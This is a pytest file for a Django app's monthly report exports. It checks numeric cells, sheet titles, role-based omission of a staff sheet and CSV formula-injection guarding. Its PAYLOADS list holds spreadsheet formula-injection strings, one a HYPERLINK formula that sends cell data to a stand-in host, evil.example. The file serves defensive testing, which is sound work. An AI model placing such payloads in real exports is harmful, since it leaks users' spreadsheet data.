"""The monthly report's XLSX and CSV exports: the stored figures, numbers as numbers,
and no text that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone, translation
from openpyxl import load_workbook

from reports.exports import csv_safe, report_csv, report_xlsx
from reports.models import MonthlyReport

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-1", "@SUM(A1)", "\t=1"]


@pytest.fixture(autouse=True)
def _english():
    with translation.override("en"):
        yield


def figures(labels=("Minor", "Important")):
    return {
        "month": "2026-11",
        "estates": [1],
        "sections": [
            {
                "key": "complaints",
                "title": "Complaints",
                "rows": [
                    {
                        "key": f"row.{i}",
                        "label": label,
                        "value": 10 + i,
                        "previous": 9,
                        "last_year": None,
                        "link": None,
                        "unit": "",
                    }
                    for i, label in enumerate(labels)
                ],
            },
            {
                "key": "clocks",
                "title": "On time: route/sign [1]",  # characters a sheet title may not hold
                "rows": [
                    {
                        "key": "clock.route",
                        "label": "Routed in time",
                        "value": 87.5,
                        "previous": 90.0,
                        "last_year": 100.0,
                        "link": "/complaints/",
                        "unit": "%",
                    }
                ],
            },
        ],
        "late": [
            {
                "number": "TS-202611-0001",
                "clock": "route",
                "due": "2026-11-03T10:00:00+08:00",
                "done": None,
                "link": "/complaints/1/",
            }
        ],
        "ladder": [{"name": "李四", "department": "工程部", "count": 3, "step": "appraisal"}],
    }


def _xlsx(body: bytes):
    return load_workbook(io.BytesIO(body))


def test_xlsx_one_sheet_per_section_with_the_same_numbers():
    data = figures()
    wb = _xlsx(report_xlsx(data, title="翠湖花园 2026-11", ladder=True))
    assert len(wb.sheetnames) == 4  # two sections, the late items, the ladder
    ws = wb.worksheets[0]
    assert ws.title == "Complaints"
    assert [c.value for c in ws[1]] == [
        "Item",
        "This month",
        "Previous month",
        "Same month last year",
        "Unit",
    ]
    for row, expected in zip(ws.iter_rows(min_row=2), data["sections"][0]["rows"], strict=True):
        assert row[0].value == expected["label"]
        assert row[1].value == expected["value"] and row[1].data_type == "n"
        assert row[2].value == expected["previous"] and row[2].data_type == "n"
        assert row[3].value is None
    clocks = wb.worksheets[1]
    assert "/" not in clocks.title and "[" not in clocks.title
    assert clocks["B2"].value == 87.5 and clocks["B2"].data_type == "n"
    assert clocks["E2"].value == "%"
    assert wb.worksheets[2]["A2"].value == "TS-202611-0001"
    assert wb.worksheets[3]["C2"].value == 3


def test_xlsx_headers_in_chinese():
    with translation.override("zh-hans"):
        wb = _xlsx(report_xlsx(figures(), title="t", ladder=False))
        assert wb.worksheets[0]["B1"].value == translation.gettext("This month")


def test_xlsx_without_the_ladder():
    wb = _xlsx(report_xlsx(figures(), title="t", ladder=False))
    assert len(wb.sheetnames) == 3
    assert all(c.value != "李四" for ws in wb.worksheets for row in ws.iter_rows() for c in row)


def test_formula_payloads_are_written_as_text_in_xlsx():
    data = figures(labels=PAYLOADS)
    data["ladder"][0]["name"] = "=1+1"
    data["late"][0]["number"] = "@SUM(A1)"
    wb = _xlsx(report_xlsx(data, title="t", ladder=True))
    cells = [wb.worksheets[0].cell(row=r, column=1) for r in range(2, 2 + len(PAYLOADS))]
    cells += [wb.worksheets[2]["A2"], wb.worksheets[3]["A2"]]
    assert [c.value for c in cells] == [*PAYLOADS, "@SUM(A1)", "=1+1"]
    for cell in cells:
        assert cell.data_type == "s", cell.value  # a string, never a formula ("f")
        assert cell.quotePrefix, cell.value
    # numbers beside them are still numbers
    assert wb.worksheets[0]["B2"].data_type == "n"


def test_csv_has_the_numbers_and_guards_formulas():
    data = figures(labels=["Minor", *PAYLOADS])
    text = report_csv(data, ladder=True)
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0] == [
        "Section",
        "Item",
        "This month",
        "Previous month",
        "Same month last year",
        "Unit",
    ]
    assert rows[1] == ["Complaints", "Minor", "10", "9", "", ""]
    labels = [r[1] for r in rows[2 : 2 + len(PAYLOADS)]]
    assert labels == ["'" + p for p in PAYLOADS]
    assert ["On time: route/sign [1]", "Routed in time", "87.5", "90.0", "100.0", "%"] in rows
    assert any("李四" in r for r in rows)
    assert not any("李四" in r for r in csv.reader(io.StringIO(report_csv(data, ladder=False))))


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@A", "'@A"), ("\rX", "'\rX"), ("a=1", "a=1")],
)
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected
    assert csv_safe(-1) == -1 and csv_safe(None) == ""


@pytest.fixture
def stored(ch):
    return MonthlyReport.objects.create(
        estate=ch,
        month=dt.date(2026, 11, 1),
        data=figures(labels=['=HYPERLINK("http://x")', "Minor"]),
        built_at=timezone.now(),
    )


def test_xlsx_download_for_the_supervisor_leaves_out_the_ladder(
    client, stored, supervisor, director
):
    url = reverse("reports:monthly_xlsx", args=[stored.pk])
    client.force_login(supervisor)
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "monthly-CH-2026-11.xlsx" in response["Content-Disposition"]
    wb = _xlsx(response.content)
    assert len(wb.sheetnames) == 3
    assert wb.worksheets[0]["A2"].data_type == "s"
    client.force_login(director)
    assert len(_xlsx(client.get(url).content).sheetnames) == 4


def test_csv_download(client, stored, supervisor, technician):
    url = reverse("reports:monthly_csv", args=[stored.pk])
    client.force_login(supervisor)
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "李四" not in text
    client.force_login(technician)
    assert client.get(url).status_code == 403
